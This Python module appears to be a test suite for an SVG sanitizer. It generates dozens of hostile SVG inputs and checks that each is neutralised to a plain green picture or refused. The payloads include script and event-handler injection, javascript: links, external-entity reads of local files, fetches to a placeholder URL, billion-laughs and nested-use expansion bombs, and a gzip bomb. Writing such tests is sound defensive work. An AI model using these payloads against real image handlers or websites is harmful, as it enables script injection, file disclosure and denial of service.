"""SVG that acts, loads or expands. It comes out as a picture; what people see is a green field."""

import gzip
import io
from collections.abc import Iterator

from PIL import Image

from .common import MARKER, URL, Attack

_OPEN = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:ev="http://www.w3.org/2001/xml-events" width="40" height="20" {attributes}>'
)
_FIELD = '<rect width="40" height="20" fill="#00aa00"/>'
_CODE = f"fetch('{URL}')"


def drawing(inside: str = "", *, attributes: str = "", before: str = "") -> bytes:
    return f"{before}{_OPEN.format(attributes=attributes)}{_FIELD}{inside}</svg>".encode()


def shows_field(output: bytes) -> bool:
    """The drawing is a picture whose middle is still green."""
    picture = Image.open(io.BytesIO(output)).convert("RGB")
    pixel = picture.getpixel((picture.width // 2, picture.height // 2))
    return isinstance(pixel, tuple) and pixel[1] > 120 > pixel[0]


_INNER = {
    "script": f"<script>{_CODE}</script>",
    "script in cdata": f"<script><![CDATA[{_CODE}]]></script>",
    "script from elsewhere": f"<script xlink:href='{URL}'/>",
    "script with another type": f"<script type='text/vbscript'>{_CODE}</script>",
    "prefixed script": f"<s:script xmlns:s='http://www.w3.org/2000/svg'>{_CODE}</s:script>",
    "script of xhtml": f"<h:script xmlns:h='http://www.w3.org/1999/xhtml'>{_CODE}</h:script>",
    "script in definitions": f"<defs><script>{_CODE}</script></defs>",
    "foreign page": f"<foreignObject width='40' height='20'><iframe xmlns='http://www.w3.org/1999/xhtml' src='{URL}'/></foreignObject>",
    "foreign form": f"<foreignObject><form xmlns='http://www.w3.org/1999/xhtml' action='{URL}'/></foreignObject>",
    "event handler": f"<rect width='1' height='1' onclick=\"{_CODE}\"/>",
    "mouse handler": f"<g onmouseover=\"{_CODE}\" onFocusIn=\"{_CODE}\"/>",
    "load handler of a picture": f"<image href='x' onerror=\"{_CODE}\" width='1' height='1'/>",
    "event listener": f"<handler ev:event='load'>{_CODE}</handler>",
    "animated link": f"<a><animate attributeName='href' values=\"javascript:{_CODE}\"/></a>",
    "set handler": f"<rect width='1' height='1'><set attributeName='onmouseover' to=\"{_CODE}\"/></rect>",
    "script link": f"<a href=\"javascript:{_CODE}\"><rect width='1' height='1'/></a>",
    "script link with tabs": f"<a xlink:href=\"java&#9;script:{_CODE}\"><rect width='1' height='1'/></a>",
    "data link": f"<a href='data:text/html,{MARKER}'><rect width='1' height='1'/></a>",
    "picture from elsewhere": f"<image href='{URL}.png' width='1' height='1'/>",
    "picture of this machine": f"<image xlink:href='file:///{MARKER}.png' width='1' height='1'/>",
    "picture of another machine": f"<image href='\\\\127.0.0.1\\{MARKER}.png' width='1' height='1'/>",
    "picture without a scheme": f"<image href='//127.0.0.1/{MARKER}.png' width='1' height='1'/>",
    "drawing as picture": f"<image href=\"data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='{MARKER}'/&gt;\" width='1' height='1'/>",
    "use from elsewhere": f"<use href='{URL}.svg#a'/>",
    "use of data": f"<use href='data:image/svg+xml;base64,{MARKER}#a'/>",
    "filter picture": f"<filter id='f'><feImage href='{URL}.png'/></filter><rect width='1' height='1' filter='url(#f)'/>",
    "filter from elsewhere": f"<rect width='1' height='1' filter='url({URL}#f)'/>",
    "mask from elsewhere": f"<rect width='1' height='1' mask='url(\"{URL}#m\")'/>",
    "fill from elsewhere": f"<rect width='1' height='1' fill='url( {URL}#m )'/>",
    "marker from elsewhere": f"<path d='M0 0h1' marker-end='url({URL}#m)'/>",
    "cursor from elsewhere": f"<g cursor='url({URL}), auto'/>",
    "text path from elsewhere": f"<text><textPath href='{URL}#p'>a</textPath></text>",
    "style import": f"<style>@import '{URL}.css';</style>",
    "style import with url": f"<style>@import url({URL}.css) screen;</style>",
    "style in capitals": f"<style>@IMPORT '{URL}.css';</style>",
    "style in cdata": f"<style><![CDATA[@import '{URL}';]]></style>",
    "font from elsewhere": f"<style>@font-face{{font-family:a;src:url({URL}.woff)}}</style>",
    "old font from elsewhere": f"<font-face><font-face-src><font-face-uri xlink:href='{URL}.svg'/></font-face-src></font-face>",
    "background": f"<rect width='1' height='1' style='background:url({URL})'/>",
    "expression": f"<rect width='1' height='1' style=\"width:expression({_CODE})\"/>",
    "binding": f"<rect width='1' height='1' style='-moz-binding:url({URL}#x)'/>",
    "comment": f"<!-- {_CODE} -->",
    "instruction": f"<?php system('{MARKER}') ?>",
    "metadata": f"<metadata><r:RDF xmlns:r='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>{MARKER}</r:RDF></metadata>",
    "description": f"<title>{MARKER}</title><desc>{MARKER}</desc>",
    "inclusion": f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{URL}' parse='text'/>",
    "style sheet language": f"<xsl:value-of xmlns:xsl='http://www.w3.org/1999/XSL/Transform' select='{MARKER}'/>",
    "sound": f"<audio xmlns='http://www.w3.org/1999/xhtml' src='{URL}' autoplay='true'/>",
    "unknown element": f"<evil payload='{MARKER}'/>",
    "base": f"<g xml:base='{URL}'><use href='#nothing'/></g>",
}  # fmt: skip


def _many_uses() -> bytes:
    """Each group shows the one before it ten times: a thousand million shapes when all are drawn."""
    groups = "".join(
        f"<g id='g{level}'>" + f"<use href='#g{level - 1}'/>" * 10 + "</g>" for level in range(1, 10)
    )
    return drawing(f"<defs><rect id='g0' width='1' height='1'/>{groups}</defs><use href='#g9'/>")


def _entities(levels: int) -> bytes:
    rows = "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 10}'>" for n in range(1, levels))
    return drawing(f"<text>&e{levels - 1};</text>", before=f"<!DOCTYPE svg [<!ENTITY e0 '{MARKER}'>{rows}]>")


def _attacks() -> Iterator[Attack]:
    for name, inside in _INNER.items():
        yield Attack(f"svg {name}", lambda inside=inside: drawing(inside), "svg", shows=shows_field)
    yield Attack(
        "svg load handler", lambda: drawing(attributes=f'onload="{_CODE}"'), "svg", shows=shows_field
    )
    yield Attack(
        "svg begin handler",
        lambda: drawing(attributes=f'onbegin="{_CODE}" onend="{_CODE}"'),
        "svg",
        shows=shows_field,
    )
    yield Attack(
        "svg style sheet",
        lambda: drawing(before=f"<?xml-stylesheet href='{URL}.css'?>"),
        "svg",
        shows=shows_field,
    )
    yield Attack(
        "svg transformation",
        lambda: drawing(before=f"<?xml-stylesheet type='text/xsl' href='{URL}.xsl'?>"),
        "svg",
        shows=shows_field,
    )
    yield Attack(
        "svg in utf-16",
        lambda: drawing(f"<script>{_CODE}</script>").decode().encode("utf-16"),
        "svg",
        shows=shows_field,
    )
    yield Attack(
        "svg document type from elsewhere", lambda: drawing(before=f"<!DOCTYPE svg SYSTEM '{URL}.dtd'>"), "svg",
        shows=shows_field,
    )  # fmt: skip
    yield Attack(
        "svg trailing comment", lambda: drawing() + f"<!-- {MARKER} -->".encode(), "svg", shows=shows_field
    )
    for name, build in {
        "svg entity of this machine": lambda: drawing("<text>&e;</text>", before=f"<!DOCTYPE svg [<!ENTITY e SYSTEM 'file:///{MARKER}'>]>"),
        "svg entity from elsewhere": lambda: drawing("<text>&e;</text>", before=f"<!DOCTYPE svg [<!ENTITY e SYSTEM '{URL}'>]>"),
        "svg parameter entity": lambda: drawing(before=f"<!DOCTYPE svg [<!ENTITY % e SYSTEM '{URL}'> %e;]>"),
        "svg billion laughs": lambda: _entities(10),
        "svg default attribute": lambda: drawing(before=f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA \"{MARKER}\">]>"),
        "svg endless uses": _many_uses,
        "svg compressed bomb": lambda: gzip.compress(drawing("<!--" + " " * 60_000_000 + "-->")),
        "svg beyond numbers": lambda: (
            f"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1e99 1e-99' height='{'9' * 300}'/>".encode()
        ),
        "svg of one thread": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1e12 1e-12'/>",
        "svg not closed": lambda: drawing()[:-6] + f"<script>{_CODE}".encode(),
        "svg as page": lambda: f"<html><body>{drawing().decode()}<script>{_CODE}</script></body></html>".encode(),
    }.items():  # fmt: skip
        yield Attack(name, build, "svg", refused=True)


ATTACKS = tuple(_attacks())
